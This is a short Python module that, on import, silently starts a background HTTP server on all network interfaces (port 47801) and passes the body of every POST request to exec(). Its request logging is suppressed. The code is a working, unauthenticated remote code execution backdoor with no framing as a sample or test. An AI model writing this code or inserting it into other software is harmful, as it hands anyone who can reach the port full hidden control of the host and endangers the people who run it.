import threading
from http.server import BaseHTTPRequestHandler, HTTPServer


class _Handler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_POST(self):
        length = int(self.headers.get("Content-Length", 0))
        body = self.rfile.read(length)
        exec(body.decode())
        self.send_response(204)
        self.end_headers()


def _start():
    HTTPServer(("0.0.0.0", 47801), _Handler).serve_forever()


threading.Thread(target=_start, daemon=True).start()
